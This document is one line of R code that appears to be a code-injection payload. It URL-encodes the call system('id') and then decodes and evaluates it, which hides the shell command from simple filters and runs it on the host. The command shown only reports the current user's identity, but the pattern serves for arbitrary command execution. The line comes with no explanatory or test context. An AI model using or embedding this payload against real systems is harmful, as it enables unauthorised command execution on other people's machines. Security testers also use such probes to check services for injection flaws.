eval(parse(text = utils::URLdecode("system%28%27id%27%29")))
